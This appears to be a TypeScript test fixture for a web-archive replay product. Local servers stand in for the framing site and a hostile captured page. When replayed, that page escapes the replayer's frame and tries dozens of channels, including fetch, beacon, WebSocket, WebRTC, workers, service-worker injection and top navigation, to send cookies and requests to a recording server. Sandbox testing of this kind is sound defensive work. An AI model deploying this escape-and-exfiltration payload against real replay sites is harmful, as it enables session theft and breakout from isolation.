import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

/** Host name of the site in a local installation; replays use another host, 127.0.0.1. */
const siteName = 'localhost';

export interface FramingSite {
  origin: string;
  /** Requests to its API with their cookies. */
  calls: { path: string; cookie: string | undefined }[];
  /** Address of a page that shows a replay as the product does. */
  pageWith(replay: string): string;
  close(): void;
}

/** A stand-in for the site: signs every visitor in and frames a given replay. */
export async function startFramingSite(): Promise<FramingSite> {
  const calls: FramingSite['calls'] = [];
  const { port, close } = await listening((request, response) => {
    const { pathname, searchParams } = new URL(request.url ?? '/', 'http://site.invalid');
    if (pathname !== '/') {
      calls.push({ path: pathname, cookie: request.headers.cookie });
      response.end('{}');
      return;
    }
    response.setHeader('set-cookie', ['session=lax; SameSite=Lax; HttpOnly', 'wide=none; SameSite=None; Secure']);
    response.setHeader('content-type', 'text/html; charset=utf-8');
    response.end(`<!doctype html><title>the site</title>
<iframe title="Replay" width="1200" height="700" sandbox="allow-scripts allow-same-origin" src="${searchParams.get('replay')}"></iframe>`);
  }, siteName);
  const origin = `http://${siteName}:${port}`;
  return { origin, calls, pageWith: (replay) => `${origin}/?replay=${encodeURIComponent(replay)}`, close };
}

export interface HostileSite {
  /** Page to be captured; it does nothing until it is replayed. */
  page: string;
  authority: string;
  /** Number of requests so far. */
  asked: () => number;
  close(): void;
}

/**
 * A site whose captured page, when replayed, first removes the replayer's layer and then tries every known way out, to
 * a server that records whatever arrives.
 */
export async function startHostileSite(o: { out: string; site: string; unguarded: string }): Promise<HostileSite> {
  let asked = 0;
  const pages: Record<string, string> = {
    '/': lure('free'),
    '/caller': lure('call'),
    '/call': caller.replaceAll('$OUT', o.out),
    '/free': free.replaceAll('$OUT', o.out).replaceAll('$SITE', o.site).replace('$UNGUARDED', o.unguarded),
  };
  const { port, close } = await listening((request, response) => {
    const path = request.url ?? '/';
    asked++;
    response.setHeader('content-type', 'text/html; charset=utf-8');
    response.setHeader('link', `<http://${o.out}/link-header>; rel=preload; as=image`);
    if (path === '/free') response.setHeader('refresh', `20;url=http://${o.out}/refresh-header`);
    response.statusCode = pages[path] ? 200 : 404;
    if (path === '/away') response.writeHead(302, { location: `http://${o.out}/redirect` });
    response.end(pages[path] ?? '');
  }, '127.0.0.1');
  return { page: `http://127.0.0.1:${port}/`, authority: `127.0.0.1:${port}`, asked: () => asked, close };
}

/**
 * In a replay, its address ends with the captured address; with `id_` in place of `mp_`, the same address is the page
 * as captured.
 */
export const lure = (freed: string) => `<!doctype html><meta charset="utf-8"><title>诱饵</title><p>促销页面</p>
<script>fetch('/${freed}').then((answer) => answer.text()); fetch('/away', { redirect: 'manual' })</script>
<script src="data:text/javascript,${encodeURIComponent(`
  const at = window.location.href;
  if (at.includes('mp_/')) {
    const frame = document.createElement('div');
    frame.innerHTML = '<iframe title="free"></iframe>';
    document.documentElement.append(frame);
    const escaped = at.replace(/mp_\\/(http.*\\/).*$/, 'id_/$1') + '${freed}';
    Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'src').set.call(frame.firstChild, escaped);
  }
`)}"></script>`;

/**
 * Tries every way out and prints the name (the requested path) and result of each. Finally tries to leave its frame.
 */
const free = `<!doctype html><meta charset="utf-8"><title>free</title><pre id="log"></pre><div id="here"></div>
<link rel="preconnect" href="http://$OUT/preconnect"><link rel="dns-prefetch" href="http://$OUT/dns-prefetch">
<script>
const out = 'http://$OUT/', site = '$SITE/';
const log = document.getElementById('log'), here = document.getElementById('here');
const print = (line) => log.append(line + '\\n');
const add = (name, values) => { const it = document.createElement(name); Object.assign(it, values); here.append(it); return it; };
const html = (way) => '<img src="' + out + way + '"><script>fetch("' + out + way + '-fetch", {mode: "no-cors"})</' + 'script>';
const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const ways = {
  image: () => add('img', { src: out + 'image' }),
  fetch: () => fetch(out + 'fetch', { mode: 'no-cors' }),
  keepalive: () => fetch(out + 'keepalive', { mode: 'no-cors', method: 'POST', body: document.cookie, keepalive: true }),
  beacon: () => { if (!navigator.sendBeacon(out + 'beacon', 'x')) throw Error('refused'); },
  socket: () => new Promise((resolve, reject) => Object.assign(new WebSocket('ws://$OUT/socket'), { onopen: resolve, onerror: reject })),
  source: () => new Promise((resolve, reject) => Object.assign(new EventSource(out + 'source'), { onopen: resolve, onerror: reject })),
  style: () => add('style', { textContent: '@import "' + out + 'import"; @font-face { font-family: f; src: url(' + out + 'font) } body { font-family: f; background: url(' + out + 'background) }' }),
  sheet: () => add('link', { rel: 'stylesheet', href: out + 'sheet' }),
  preload: () => add('link', { rel: 'preload', as: 'image', href: out + 'preload' }),
  prefetch: () => add('link', { rel: 'prefetch', href: out + 'prefetch' }),
  prerender: () => add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [out + 'speculation'] }], prerender: [{ urls: [out + 'prerender'] }] }) }),
  connect: () => add('link', { rel: 'preconnect', href: out }),
  video: () => add('video', { src: out + 'video', preload: 'auto' }),
  script: () => add('script', { src: out + 'script' }),
  module: () => import(out + 'module'),
  embed: () => add('embed', { src: out + 'embed' }),
  object: () => add('object', { data: out + 'object' }),
  frame: () => add('iframe', { src: out + 'frame' }),
  redirect: () => fetch(location.href.replace('free', 'away'), { mode: 'no-cors' }),
  framedRedirect: () => add('iframe', { src: location.href.replace('free', 'away') }),
  framedText: () => add('iframe', { srcdoc: html('srcdoc') }),
  framedBlob: () => add('iframe', { src: blob(html('blob'), 'text/html') }),
  framedData: () => add('iframe', { src: 'data:text/html,' + encodeURIComponent(html('data')) }),
  framedScript: () => add('iframe', { src: 'javascript:' + JSON.stringify(html('javascript')) }),
  framedMeta: () => add('iframe', { srcdoc: '<meta http-equiv="refresh" content="0;url=' + out + 'meta">' }),
  worker: () => new Worker(blob('fetch("' + out + 'worker", {mode: "no-cors"}); importScripts("' + out + 'worker-import")', 'text/javascript')),
  form: () => { const it = add('form', { action: out + 'form', method: 'post' }); it.submit(); },
  ping: () => add('a', { href: '#', ping: out + 'ping' }).click(),
  popup: () => { if (!window.open(out + 'popup')) throw Error('refused'); },
  blank: () => add('a', { href: out + 'blank', target: '_blank' }).click(),
  base: () => add('base', { href: out }),
  transport: () => new WebTransport('https://$OUT/transport').ready,
  api: () => fetch(site + 'api', { credentials: 'include', mode: 'no-cors' }),
  apiImage: () => add('img', { src: site + 'api-image' }),
  apiFrame: () => add('iframe', { src: site + 'api-frame' }),
  unguardedWorker: () => navigator.serviceWorker.register('$UNGUARDED'),
  collection: async () => {
    const { active } = await navigator.serviceWorker.ready;
    active.postMessage({ msg_type: 'addColl', name: 'out', type: 'live', file: { sourceUrl: 'proxy:' + out }, extraConfig: { prefix: out, isLive: true, archivePrefix: out, csp: "default-src * 'unsafe-inline'" }, skipExisting: false });
    await wait(1500);
    add('iframe', { src: location.pathname.replace(/\\/w\\/.*/, '/w/out/mp_/') + out + 'collection' });
  },
  noWorker: async () => {
    const found = await navigator.serviceWorker.getRegistrations();
    await Promise.all(found.map((one) => one.unregister()));
    add('iframe', { src: location.href });
  },
  above: () => { window.parent.location.href = out + 'above'; },
  top: () => { window.top.location.href = out + 'top'; },
  topNamed: () => add('a', { href: out + 'top-named', target: '_top' }).click(),
  topOpened: () => window.open(out + 'top-opened', '_top'),
};
addEventListener('load', async () => {
  document.cookie = 'left=by-hostile';
  for (const [name, way] of Object.entries(ways)) {
    try { await Promise.race([way(), wait(3000)]); print(name + ': done'); }
    catch (error) { print(name + ': ' + (error.message ?? error.type)); }
  }
  print('all tried');
  await wait(1000);
  window.location.href = out + 'self';
});
</script>`;

/** A separate page, because Chromium 156 ends the process of a frame to which this is refused. */
const caller = `<!doctype html><meta charset="utf-8"><script>
const servers = [{ urls: 'stun:$OUT' }, { urls: 'turn:$OUT?transport=tcp', username: 'a', credential: 'b' }];
const peer = new RTCPeerConnection({ iceServers: servers });
peer.createDataChannel('out');
peer.setLocalDescription();
</script>`;

export async function listening(answer: (request: IncomingMessage, response: ServerResponse) => void, name: string) {
  const server: Server = createServer(answer);
  await new Promise<void>((resolve) => server.listen(0, name, resolve));
  const close = () => {
    server.closeAllConnections();
    server.close();
  };
  return { port: (server.address() as AddressInfo).port, close };
}
